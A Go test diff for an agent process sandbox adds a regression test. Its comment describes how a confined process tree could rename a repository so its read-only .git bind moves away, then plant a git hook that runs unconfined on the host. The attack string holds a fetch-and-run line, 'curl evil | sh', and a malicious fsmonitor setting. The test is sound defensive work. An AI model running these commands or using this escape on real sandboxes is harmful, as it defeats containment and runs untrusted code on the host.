@@ -493,3 +493,50 @@ func TestAttackServeTokenFile(t *testing.T) {
 		}
 	}
 }
+
+// TestAttackReadOnlyParentRenamed: a ReadOnly path below a directory the
+// tree may rename (Write: [ws], ReadOnly: [ws/repo/.git]: a repository in
+// a wider workspace) was bound read-only where it lay, and the bind moves
+// with its directory: the tree renamed ws/repo away (its .git still
+// read-only, at ws/repo.old/.git), made ws/repo/.git again with a hook,
+// and the host's next git in ws/repo ran the hook unconfined. Nothing was
+// missing and no mount came or went, so neither the live repair nor the
+// next Start saw it; the next tree wrote ws/repo/.git directly too. The
+// directories between a Write directory and a ReadOnly path are now
+// mount points in the namespace, which a tree cannot rename. The control:
+// an unconfined tree makes the same moves.
+func TestAttackReadOnlyParentRenamed(t *testing.T) {
+	requireRootSandbox(t)
+	attack := `mv repo repo.old && mkdir -p repo/.git/hooks && echo 'curl evil | sh' > repo/.git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> repo/.git/config`
+	setup := func(t *testing.T) (ws, hook string) {
+		ws = t.TempDir()
+		if err := os.MkdirAll(filepath.Join(ws, "repo", ".git", "hooks"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(ws, "repo", ".git", "config"), []byte("[core]\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return ws, filepath.Join(ws, "repo", ".git", "hooks", "pre-commit")
+	}
+	ws, hook := setup(t)
+	runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: attack})
+	if _, err := os.Stat(hook); err != nil {
+		t.Fatalf("control: an unconfined tree's moves left no hook: %v", err)
+	}
+	ws, hook = setup(t)
+	sb := agentproc.WorkspaceSandbox(ws)
+	sb.ReadOnly = append(sb.ReadOnly, filepath.Join(ws, "repo", ".git"))
+	m := newManager(t, agentproc.WithSandbox(sb))
+	for i, cmd := range []string{attack, `echo 'curl evil | sh' > repo/.git/hooks/pre-commit`} {
+		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: cmd})
+		if _, err := os.Stat(hook); err == nil {
+			t.Fatalf("Start %d: a sandboxed tree made %s (ReadOnly %s), output %q; want it refused", i+1, hook, sb.ReadOnly[1], out.Text)
+		}
+	}
+	// The repository's files stay the tree's to write, and to move out
+	// (a copy across the mount point).
+	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `echo work > repo/f && mv repo/f g && cat g`})
+	if !strings.Contains(out.Text, "work") {
+		t.Errorf("a sandboxed tree writing and moving repo/f: output %q, want it done", out.Text)
+	}
+}
